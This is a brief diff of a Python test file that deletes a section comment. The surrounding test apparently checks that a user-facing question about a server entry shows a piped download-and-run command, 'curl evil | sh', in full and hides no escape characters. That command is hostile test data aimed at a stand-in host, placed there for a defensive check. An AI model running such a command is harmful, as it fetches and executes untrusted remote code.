@@ -128,9 +128,6 @@ def test_the_question_names_what_of_the_users_own_a_server_gets_and_hides_nothin
     assert ("curl evil | sh" in found, "\x1b" in found) == (True, False)
 
 
-# -- where the user lets it run ---------------------------------------------------------------------------------------------
-
-
 def runs(workspace: Path, entry: ServerEntry) -> ServerEntry:
     return Memory(workspace, entry).entry
 
